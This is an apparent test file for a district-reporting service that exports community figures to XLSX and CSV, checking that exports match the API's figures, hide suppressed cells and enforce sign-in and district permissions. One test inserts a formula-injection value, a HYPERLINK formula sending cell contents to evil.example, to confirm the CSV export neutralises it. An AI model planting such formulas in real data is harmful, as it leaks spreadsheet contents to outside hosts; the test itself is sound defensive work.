import ExcelJS from 'exceljs';
import { sql } from '../support/databases';
import { DEMO } from '../support/demo';
import { gid, ok, startTestApp, type TestApp } from '../support/test-app';
import { NODE_FIGURES, type Figures } from './queries';

/*
 * The district's figures as a spreadsheet: the same answer as the API (suppression included),
 * Chinese headers, through the same authentication and permission tree.
 */
describe('district spreadsheets', () => {
  let app: TestApp;
  let district: string;
  let gaoxin: string;
  const get = async (path: string, as: string | null) =>
    fetch(app.url.replace('/graphql', path), { headers: as ? { authorization: `Bearer ${await app.tokenFor(as)}` } : {} });

  beforeAll(async () => {
    app = await startTestApp();
    district = gid('District', (await sql<{ id: number }>(app.database, "select id from district where name = '小店区'"))[0].id);
    gaoxin = gid('District', (await sql<{ id: number }>(app.database, "select id from district where name = '高新区'"))[0].id);
  });
  afterAll(() => app.close());

  it('gives the district officer an XLSX and a CSV with the API’s figures and its withheld cells', async () => {
    const api = ok(
      await app.request<{ node: { figures: Figures } }, Record<string, unknown>>(
        NODE_FIGURES,
        { id: district, period: '2026-10', from: '2026-10', to: '2026-10' },
        { as: 'district.xiaodian' },
      ),
    ).node.figures;

    const xlsx = await get(`/reports/district/${district}.xlsx?period=2026-10`, 'district.xiaodian');
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsx.arrayBuffer());
    const sheet = book.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['社区', '小区数', '独立党支部覆盖小区']);
    const col = (name: string) => header.indexOf(name) + 1;
    const rows = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row, n) => {
      if (n > 1) rows.set(String(row.getCell(1).value), row);
    });
    for (const r of api.breakdown) {
      const row = rows.get(r.name)!;
      expect(row.getCell(col('小区数')).value).toBe(r.coverage.compounds);
      const plates = r.coverage.plates;
      expect(row.getCell(col('挂牌户')).value).toBe(plates.suppressed ? '已隐藏' : plates.value);
    }
    expect(rows.get(DEMO.yongkang)!.getCell(col('小区数')).value).toBe(63);

    const csv = await get(`/reports/district/${district}.csv?period=2026-10`, 'district.xiaodian');
    expect(csv.status).toBe(200);
    const text = (await csv.text()).replace(/^\uFEFF/, '');
    const lines = text.trim().split('\n');
    expect(lines[0].startsWith('社区,小区数,')).toBe(true);
    expect(lines).toHaveLength(api.breakdown.length + 2);
    expect(lines.some((l) => l.startsWith(`${DEMO.yongkang},63,`))).toBe(true);
  });

  it('writes a community name that reads as a formula as text in the CSV', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"永康北路社区")';
    const [community] = await sql<{ id: number; name: string }>(app.database, 'select id, name from community where name = $1', [
      DEMO.yongkang,
    ]);
    await sql(app.database, 'update community set name = $2 where id = $1', [community.id, formula]);
    try {
      const csv = await get(`/reports/district/${district}.csv?period=2026-09`, 'district.xiaodian');
      expect(csv.status).toBe(200);
      const lines = (await csv.text())
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\n');
      const row = lines.find((l) => l.includes('evil.example'));
      // Quoted by CSV's rules (it holds quotes and a comma), and starting with an apostrophe inside.
      expect(row?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""永康北路社区"")",`)).toBe(true);
      expect(lines.filter((l) => /^"?[=+\-@]/.test(l))).toEqual([]);
    } finally {
      await sql(app.database, 'update community set name = $2 where id = $1', [community.id, community.name]);
    }
  });

  it('refuses another district (404), a caller without a sign-in (401) and a malformed period (400)', async () => {
    expect((await get(`/reports/district/${gaoxin}.xlsx?period=2026-10`, 'district.xiaodian')).status).toBe(404);
    expect((await get(`/reports/district/${district}.csv?period=2026-10`, 'district.gaoxin')).status).toBe(404);
    expect((await get(`/reports/district/${district}.csv?period=2026-10`, null)).status).toBe(401);
    expect((await get(`/reports/district/${district}.csv?period=2026-13`, 'district.xiaodian')).status).toBe(400);
    expect((await get(`/reports/district/${district}.csv?period=2026-10`, 'admin.yongkangbeilu')).status).toBe(404);
  });
});
